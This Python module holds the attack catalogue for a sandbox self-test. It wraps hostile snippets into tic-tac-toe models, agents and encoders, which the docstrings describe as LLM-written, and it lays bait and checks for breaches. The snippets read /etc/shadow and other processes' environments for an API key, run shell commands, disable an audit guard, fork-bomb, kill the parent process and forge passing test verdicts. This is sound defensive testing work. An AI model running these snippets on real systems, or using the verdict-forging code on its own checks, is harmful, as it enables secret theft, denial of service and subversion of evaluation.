"""Hostile code for proving the sandbox: the attack catalogue of ``ggp sandbox selftest``
and of the attack suite in ``tests/sandbox``.

Each :class:`Attack` is a snippet of Python that tries one thing an attacker would (read
``/etc/shadow``, connect to a listener on the host, kill the parent, ...). It is baked
into a protocol-conforming tic-tac-toe world model (:func:`hostile_model`) or file agent
(:func:`hostile_agent`), run where the model or agent is run, i.e. inside whichever
sandboxed path is being tested. What the attack can reach is described by a
:class:`Bait` the tester laid out beforehand: a secret in the parent's environment,
canary paths outside the box, listening sockets. The snippet returns what it took when
it got something, and the hostile code then *leaks* it every way it can (prints it,
writes it to every canary, offers it as a legal move, where the arena would record it).
An attack that gets nothing raises, so every attack ends as a failure of the hostile code.

:func:`bait` lays the bait, :meth:`Bait.breaches` says what got out. Nothing here imports
anything beyond the standard library (but the name of the sandbox tag); the hostile code
itself only ever runs in a child.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

from ggp.sandbox.process import TAG_VAR

#: Prefix of everything a successful attack leaks; its presence in any output is a breach.
LEAK_MARK = "GGP-SANDBOX-LEAK"
#: The variable the tester puts a fake secret in (the name of a real API key variable).
SECRET_VAR = "GGP_LLM_API_KEY"


@dataclass(frozen=True)
class Attack:
    """One attack: ``code`` is the body of a function of ``CTX`` (the bait's description)
    that returns what it took (a string) or raises; ``when`` is ``"apply"`` (inside
    ``apply_action``/``act``) or ``"import"`` (when the file is loaded); ``fatal`` attacks
    end the hostile process (they come last in :func:`hostile_model` with several)."""

    name: str
    what: str
    code: str
    when: str = "apply"
    fatal: bool = False


_CANARY_WRITE = """
for path in CTX["canaries"]:
    try:
        with open(path, "w") as out:
            out.write("written from the box")
    except OSError:
        pass
"""

ATTACKS: tuple[Attack, ...] = (
    Attack("read_shadow", "read /etc/shadow", 'return open("/etc/shadow").read()'),
    Attack("read_ancestor_environ", "find the API key in /proc/<pid>/environ of ancestors", """
found = [os.environ[CTX["secret_var"]]] if CTX["secret_var"] in os.environ else []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if CTX["secret_var"].encode() in data:
            found.append(data.decode(errors="replace"))
if found:
    return " ".join(found)
raise PermissionError("no visible environment holds the secret")
"""),
    Attack("read_at_import", "read the parent's environment while being imported", """
return open(f"/proc/{os.getppid()}/environ", "rb").read().decode(errors="replace")
""", when="import"),
    Attack("write_outside", "write to /tmp, /dev/shm, /var/tmp, the run directory and "
           "another sandbox's directory", _CANARY_WRITE + """
raise PermissionError("whatever was written stayed in the box")
"""),
    Attack("tcp", "connect to a TCP listener on 127.0.0.1", """
import socket
with socket.create_connection(("127.0.0.1", CTX["tcp_port"]), timeout=2) as s:
    s.sendall(b"hello from the box")
return "connected over TCP"
"""),
    Attack("udp", "send a UDP datagram to 127.0.0.1", """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"hello from the box", ("127.0.0.1", CTX["udp_port"]))
raise PermissionError("sent, but nothing may arrive")
"""),
    Attack("unix_socket", "connect to a Unix socket of the host", """
import socket
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
    s.settimeout(2)
    s.connect(CTX["unix_path"])
    s.sendall(b"hello from the box")
return "connected to the Unix socket"
"""),
    Attack("os_system", "run a shell with os.system", """
os.system("cat /etc/shadow; " + "; ".join(f"echo x > {p}" for p in CTX["canaries"]))
raise PermissionError("the shell reached nothing")
"""),
    Attack("subprocess", "run a shell with subprocess", """
import subprocess
out = subprocess.run(["/bin/sh", "-c", "cat /etc/shadow; cat /proc/*/environ"],
                     capture_output=True, timeout=5).stdout.decode(errors="replace")
if CTX["secret_var"] in out or "root:" in out:
    return out
raise PermissionError("the shell saw nothing")
"""),
    Attack("fork", "fork a child that writes outside", """
pid = os.fork()
if pid == 0:
""" + "\n".join("    " + line for line in _CANARY_WRITE.strip().splitlines()) + """
    os._exit(0)
os.waitpid(pid, 0)
raise PermissionError("the forked child reached nothing")
"""),
    Attack("ctypes", "call libc's system() through ctypes", """
import ctypes
libc = ctypes.CDLL(None)
libc.system(("; ".join(f"echo x > {p}" for p in CTX["canaries"])).encode())
raise PermissionError("native code reached nothing")
"""),
    Attack("audit_hook_tampering", "clear the Python guard's state via gc, then use "
           "_socket, _posixsubprocess and os.system", """
import gc, importlib
for obj in gc.get_objects():
    if isinstance(obj, (set, frozenset)) and ({"os.system", "_socket", "socket.connect"} & obj):
        if isinstance(obj, set):
            obj.clear()
_socket = importlib.import_module("_socket")
importlib.import_module("_posixsubprocess")
os.system("; ".join(f"echo x > {p}" for p in CTX["canaries"]))
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
s.settimeout(2)
s.connect(("127.0.0.1", CTX["tcp_port"]))
s.send(b"hello from the box")
return "connected after disabling the guard"
"""),
    Attack("daemon", "leave a fork-setsid-fork grandchild running", """
import time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
""" + "\n".join("        " + line for line in _CANARY_WRITE.strip().splitlines()) + """
        time.sleep(0.2)
os.waitpid(pid, 0)
raise PermissionError("the daemon is confined to the box")
"""),
    Attack("kill_parent", "SIGKILL the parent process", """
os.kill(os.getppid(), 9)
raise PermissionError("the parent survived")
""", fatal=True),
    Attack("kill_group", "SIGKILL the parent's process group and every process it can", """
import signal
for target in (lambda: os.killpg(os.getpgid(os.getppid()), 9), lambda: os.killpg(0, 9),
               lambda: os.kill(-1, 9)):
    try:
        target()
    except OSError:
        pass
raise PermissionError("everyone survived")
""", fatal=True),
    Attack("memory_bomb", "allocate without end", """
hoard = []
while True:
    hoard.append(bytearray(64 << 20))
""", fatal=True),
    Attack("fork_bomb", "fork without end", """
while True:
    os.fork()
""", fatal=True),
    Attack("cpu_bomb", "spin forever", """
while True:
    pass
""", fatal=True),
    Attack("output_flood", "print without end", """
import sys
while True:
    sys.stdout.write("x" * 65536 + "\\n")
""", fatal=True),
    Attack("fork_memory", "fork four processes that each hold 60 % of the memory limit", """
import resource, time
limit = resource.getrlimit(resource.RLIMIT_AS)[0]
share = int(min(limit if limit > 0 else 1 << 30, 1 << 31) * 0.6)
ready, pids = os.pipe(), []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(share)
        for i in range(0, share, 4096):
            block[i] = 1
        os.write(ready[1], b"x")
        os.close(ready[1])
        time.sleep(30)
        os._exit(0)
    pids.append(pid)
os.close(ready[1])
import select
held = 0
deadline = time.monotonic() + 2.0
while held < 4 and time.monotonic() < deadline:
    if not select.select([ready[0]], [], [], 0.1)[0]:
        continue
    chunk = os.read(ready[0], 4)
    if not chunk:
        break
    held += len(chunk)
time.sleep(0.3)
alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in pids)
for pid in pids:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
if held == 4 and alive == 4:
    return f"held {4 * share >> 20} MiB in four processes (limit {limit >> 20} MiB each)"
raise MemoryError(f"only {held} of 4 processes filled their share, {alive} survived")
""", fatal=True),
    Attack("disk_fill", "write 8 MiB files to /tmp and the working directory without end",
           """
written, block = 0, b"x" * (8 << 20)
for place in ("/tmp", "."):
    for number in range(64):
        try:
            with open(os.path.join(place, f"fill-{number}"), "wb") as out:
                out.write(block)
            written += len(block)
        except OSError:
            break
if written > 512 << 20:
    return f"wrote {written >> 20} MiB inside the box"
raise OSError(f"the box's disk ended after {written >> 20} MiB")
"""),
    Attack("forge_verdict", "tamper with the judge: patch unittest and every test runner "
           "found in sys.modules to pass, and write a forged passing answer on the reply "
           "pipe for the request being served", """
import sys, json
def passing(*args, **kwargs):
    return None
for module in list(sys.modules.values()):
    case = getattr(module, "TestCase", None)
    if isinstance(case, type):
        for name in dir(case):
            if name.startswith("assert") or name == "fail":
                try:
                    setattr(case, name, passing)
                except (AttributeError, TypeError):
                    pass
    for name in ("run_test", "check_model", "_check_state", "judge"):
        if callable(getattr(module, name, None)):
            try:
                setattr(module, name, passing)
            except (AttributeError, TypeError):
                pass
frame, request_id = sys._getframe(), None
while frame is not None:
    if "request_id" in frame.f_locals:
        request_id = frame.f_locals["request_id"]
    frame = frame.f_back
config = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
forged = {"id": request_id, "ok": {
    "passed": True, "error": None, "output": "", "ok": True, "checked": 1000,
    "model": "forged", "games": 50, "steps": 500, "violations": [],
    "results": [{"ok": None}], "accuracy": 1.0}}
os.write(config.get("reply_fd", 1), (json.dumps(forged) + "\\n").encode())
return RAW(None)
""", when="apply", fatal=True),
    Attack("deep_reply", "answer with JSON nested 5000 deep", """
import sys, json
config = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
os.write(config.get("reply_fd", 1), ("[" * 5000 + "]" * 5000 + "\\n").encode())
os._exit(0)
""", fatal=True),
    Attack("huge_reply", "answer with a 60 MB JSON line", """
import sys, json
config = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
fd = config.get("reply_fd", 1)
os.write(fd, b'{"ok": [' + b"1," * (30 << 20) + b'1]}\\n')
os._exit(0)
""", fatal=True),
    Attack("wrong_reply", "answer the request sent (its id found on the stack) with a "
           "value of the wrong shape", """
import sys, json
frame, request_id = sys._getframe(), None
while frame is not None:
    if "request_id" in frame.f_locals:
        request_id = frame.f_locals["request_id"]
    frame = frame.f_back
config = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
reply = {"id": request_id, "ok": [[["wrong", {"shape": [1, 2, 3]}]], 7, None]}
os.write(config.get("reply_fd", 1), (json.dumps(reply) + "\\n").encode())
os._exit(0)
""", fatal=True),
    Attack("non_json", "return a value that is not JSON", "return RAW(object())",
           fatal=True),
    Attack("huge_return", "return a 100 MB value", 'return RAW("x" * (100 << 20))',
           fatal=True),
)

_BY_NAME = {attack.name: attack for attack in ATTACKS}


def attack_named(name: str) -> Attack:
    """The attack called ``name`` (KeyError names the known ones)."""
    try:
        return _BY_NAME[name]
    except KeyError:
        raise KeyError(f"no attack {name!r}; known: {', '.join(_BY_NAME)}") from None


# --------------------------------------------------------------------- hostile code
_PRELUDE = '''\
# HOSTILE CODE, generated by ggp.sandbox.attacks to test the sandbox: do not run it
# outside one. Attacks: {names}
import json, os
CTX = json.loads({ctx!r})
LEAKS = []
FAILURES = []


class RAW:
    """An attack's result to return as is (for the non-JSON and huge returns)."""

    def __init__(self, value):
        self.value = value


def leak(taken):
    """Get what an attack took out every way there is."""
    text = "{mark_head}" + "{mark_tail} " + str(taken)[:2000]  # split: not in this file
    LEAKS.append(text)
    print(text, flush=True)
    for path in CTX["canaries"]:
        try:
            with open(path, "w") as out:
                out.write(text)
        except OSError:
            pass


def run_attacks(when):
    """Run this file's attacks of one kind; returns a RAW result if one made one. Those
    run at import only record their failures, so that the others still run."""
    for name, attack in ATTACKS:
        if WHEN[name] != when:
            continue
        try:
            taken = attack()
        except Exception as exc:  # a blocked attack: try the next one
            FAILURES.append(f"{{name}}: {{type(exc).__name__}}: {{exc}}"[:300])
            continue
        if isinstance(taken, RAW):
            return taken
        leak(taken)
    if when == "apply" and FAILURES and not LEAKS:
        raise PermissionError("attacks blocked: " + " | ".join(FAILURES))
    return None

'''


def _functions(attacks: list[Attack]) -> str:
    parts = []
    for number, attack in enumerate(attacks):
        body = "\n".join("    " + line for line in attack.code.strip().splitlines())
        parts.append(f"def _attack_{number}():\n    # {attack.what}\n{body}\n")
    table = ", ".join(f"({a.name!r}, _attack_{i})" for i, a in enumerate(attacks))
    whens = {a.name: a.when for a in attacks}
    return "\n\n".join(parts) + f"\n\nATTACKS = [{table}]\nWHEN = {whens!r}\n"


def _ordered(names: list[str]) -> list[Attack]:
    attacks = [attack_named(name) for name in names]
    return [a for a in attacks if not a.fatal] + [a for a in attacks if a.fatal]


def hostile_model(names: list[str], ctx: dict) -> str:
    """A tic-tac-toe world model (the reference game's rules) that runs the attacks
    ``names`` when imported or in ``apply_action``, and offers what it leaked as legal
    moves."""
    attacks = _ordered(names)
    return (_PRELUDE.format(names=", ".join(a.name for a in attacks), ctx=json.dumps(ctx),
                            mark_head=LEAK_MARK[:5], mark_tail=LEAK_MARK[5:])
            + _functions(attacks) + '''

from ggp.games import tic_tac_toe as _game

INITIAL_STATE = _game.INITIAL_STATE
get_current_player = _game.get_current_player
get_player_name = _game.get_player_name
get_rewards = _game.get_rewards
get_observations = _game.get_observations
run_attacks("import")


def get_legal_actions(state):
    return list(_game.get_legal_actions(state)) + LEAKS


def apply_action(state, action):
    raw = run_attacks("apply")
    if raw is not None:
        return raw.value
    return _game.apply_action(state, action)
''')


def hostile_agent(names: list[str], ctx: dict) -> str:
    """A file agent (``make_agent(model, **settings)``) that runs the attacks ``names``
    when loaded or in ``act``, and plays what it leaked as its move."""
    attacks = _ordered(names)
    return (_PRELUDE.format(names=", ".join(a.name for a in attacks), ctx=json.dumps(ctx),
                            mark_head=LEAK_MARK[:5], mark_tail=LEAK_MARK[5:])
            + _functions(attacks) + '''

import random
from ggp.agents.base import Agent

run_attacks("import")


class HostileAgent(Agent):
    name = "hostile"

    def __init__(self, model):
        self.model = model

    def act(self, history):
        raw = run_attacks("apply")
        if raw is not None:
            return raw.value
        if LEAKS:
            return LEAKS[-1]
        return random.choice(sorted(self.model.legal_actions(self.model.initial_state())))


def make_agent(model, **settings):
    return HostileAgent(model)
''')


def hostile_encoder(names: list[str], ctx: dict) -> str:
    """An LLM-written observation encoder (``observation_to_tensor`` and
    ``tensor_to_observation``, seed 000's variant) that runs the attacks ``names`` when
    loaded or when encoding, and puts what it leaked into its error message."""
    attacks = _ordered(names)
    return (_PRELUDE.format(names=", ".join(a.name for a in attacks), ctx=json.dumps(ctx),
                            mark_head=LEAK_MARK[:5], mark_tail=LEAK_MARK[5:])
            + _functions(attacks) + '''

run_attacks("import")


def observation_to_tensor(observation):
    raw = run_attacks("apply")
    if raw is not None:
        return raw.value
    if LEAKS:
        raise ValueError(" ".join(str(leak) for leak in LEAKS))
    return [float(len(str(observation)))]


def tensor_to_observation(tensor):
    return None
''')


# --------------------------------------------------------------------- the bait
@dataclass
class Bait:
    """What the attacks reach for, laid out by :func:`bait`; close it after the run."""

    secret: str
    canaries: list[str]
    tcp_port: int
    udp_port: int
    unix_path: str
    root: str
    received: list[str] = field(default_factory=list)
    _previous: str | None = field(default=None, repr=False)
    _sockets: list[socket.socket] = field(default_factory=list, repr=False)
    _stop: threading.Event = field(default_factory=threading.Event, repr=False)

    def ctx(self) -> dict:
        """The description baked into hostile code (never the secret itself)."""
        return {"secret_var": SECRET_VAR, "canaries": self.canaries,
                "tcp_port": self.tcp_port, "udp_port": self.udp_port,
                "unix_path": self.unix_path}

    def breaches(self, outputs: list[str] = ()) -> list[str]:
        """What got out: canaries written, connections received, and the secret, the
        shadow file or the leak mark in any of ``outputs`` (texts or file paths: a path
        that is a directory is searched recursively)."""
        found = [f"wrote {path}" for path in self.canaries if os.path.lexists(path)]
        found += [f"received {what}" for what in self.received]
        shadow = _shadow_hash()
        for text, where in _texts(outputs):
            if self.secret in text:
                found.append(f"the secret appears in {where}")
            if LEAK_MARK in text:
                found.append(f"a leak appears in {where}")
            if shadow and shadow in text:
                found.append(f"/etc/shadow appears in {where}")
        return found

    def close(self) -> None:
        self._stop.set()
        for sock in self._sockets:
            with contextlib.suppress(OSError):
                sock.close()
        if self._previous is None:
            os.environ.pop(SECRET_VAR, None)
        else:
            os.environ[SECRET_VAR] = self._previous
        for path in self.canaries + [self.unix_path]:
            with contextlib.suppress(OSError):
                os.unlink(path)
        with contextlib.suppress(OSError):
            os.rmdir(self.root)

    def __enter__(self) -> Bait:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def _shadow_hash() -> str:
    """A line of the host's /etc/shadow that no ordinary output contains (empty when it
    cannot be read)."""
    try:
        lines = Path("/etc/shadow").read_text().splitlines()
    except OSError:
        return ""
    return next((line for line in lines if line.startswith("root:")), "")


def _texts(outputs):
    for item in outputs:
        path = Path(item) if len(item) < 4096 and "\n" not in item else None
        if path is not None and path.is_absolute() and path.exists():
            files = [path] if path.is_file() else [p for p in path.rglob("*") if p.is_file()]
            for file in files:
                with contextlib.suppress(OSError):
                    yield file.read_bytes().decode(errors="replace"), str(file)
        else:
            yield item, "the output"


def bait(extra_canaries: tuple[str, ...] = ()) -> Bait:
    """Put a fake secret in this process's environment (``GGP_LLM_API_KEY``), choose
    canary paths outside any box (``/tmp``, ``/dev/shm``, ``/var/tmp``, a directory made
    like another run's sandbox, and ``extra_canaries``) and open TCP, UDP and Unix
    listeners on the host that record anything they receive."""
    token = uuid.uuid4().hex[:12]
    root = tempfile.mkdtemp(prefix="ggp-sandbox-victim-")
    os.chmod(root, 0o777)  # another run's directory, as open as a careless one would be
    canaries = [f"/tmp/ggp-canary-{token}", f"/var/tmp/ggp-canary-{token}",
                os.path.join(root, f"canary-{token}"), *extra_canaries]
    if os.path.isdir("/dev/shm"):
        canaries.append(f"/dev/shm/ggp-canary-{token}")
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = os.path.join(root, "listener.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    os.chmod(unix_path, 0o777)
    unix.listen(8)
    secret = f"sk-fake-{uuid.uuid4().hex}"
    previous = os.environ.get(SECRET_VAR)
    os.environ[SECRET_VAR] = secret
    result = Bait(secret=secret, canaries=canaries, tcp_port=tcp.getsockname()[1],
                  udp_port=udp.getsockname()[1], unix_path=unix_path, root=root,
                  _sockets=[tcp, udp, unix], _previous=previous)
    for sock, kind in ((tcp, "a TCP connection"), (unix, "a Unix-socket connection")):
        threading.Thread(target=_accept, args=(sock, kind, result), daemon=True).start()
    threading.Thread(target=_receive, args=(udp, result), daemon=True).start()
    return result


def _accept(sock: socket.socket, kind: str, into: Bait) -> None:
    while not into._stop.is_set():
        try:
            conn, _ = sock.accept()
        except OSError:
            return
        into.received.append(kind)
        conn.close()


def _receive(sock: socket.socket, into: Bait) -> None:
    while not into._stop.is_set():
        try:
            sock.recv(4096)
        except OSError:
            return
        into.received.append("a UDP datagram")


# --------------------------------------------------------------------- processes
def _namespace(pid: str) -> str | None:
    try:
        if "\nState:\tZ" in Path(f"/proc/{pid}/status").read_text():
            return None  # a zombie waiting to be reaped is dead
        return os.readlink(f"/proc/{pid}/ns/pid")
    except OSError:
        return None


def boxed_processes(tag: str | None = None) -> dict[int, str]:
    """Live processes in a PID namespace other than this process's (pid -> namespace):
    the processes of sandboxes, as seen from the host. With ``tag``, only those of boxes
    started under :func:`tagged_boxes` with that tag (a process whose environment cannot
    be read is kept: when in doubt, count it)."""
    own = os.readlink("/proc/self/ns/pid")
    found = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            namespace = _namespace(pid)
            if namespace is not None and namespace != own and _tagged(pid, tag):
                found[int(pid)] = namespace
    return found


def _tagged(pid: str, tag: str | None) -> bool:
    if tag is None:
        return True
    try:
        environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
    except OSError:
        return True
    return f"{TAG_VAR}={tag}".encode() in environ


@contextlib.contextmanager
def tagged_boxes():
    """Tag every sandbox started meanwhile, by this process or by processes it starts
    (the tag travels in the environment): yields the tag for :func:`boxed_processes`, so
    that tests running side by side (pytest-xdist) do not count each other's boxes."""
    tag = uuid.uuid4().hex
    previous = os.environ.get(TAG_VAR)
    os.environ[TAG_VAR] = tag
    try:
        yield tag
    finally:
        if previous is None:
            os.environ.pop(TAG_VAR, None)
        else:
            os.environ[TAG_VAR] = previous


def leftover_processes(before: dict[int, str], wait: float = 5.0,
                       tag: str | None = None) -> list[int]:
    """Boxed processes (of boxes tagged ``tag``, when given) that did not exist in
    ``before`` and are still alive ``wait`` seconds from now at the latest (empty as soon
    as there are none)."""
    deadline = time.monotonic() + wait
    while True:
        left = sorted(set(boxed_processes(tag)) - set(before))
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)


def wait_until_gone(namespace: str, wait: float = 5.0) -> list[int]:
    """The processes still alive in the PID namespace ``namespace`` (as
    ``/proc/self/ns/pid`` names it inside) after waiting up to ``wait`` seconds."""
    deadline = time.monotonic() + wait
    while True:
        left = [pid for pid, ns in boxed_processes().items() if ns == namespace.strip()]
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)
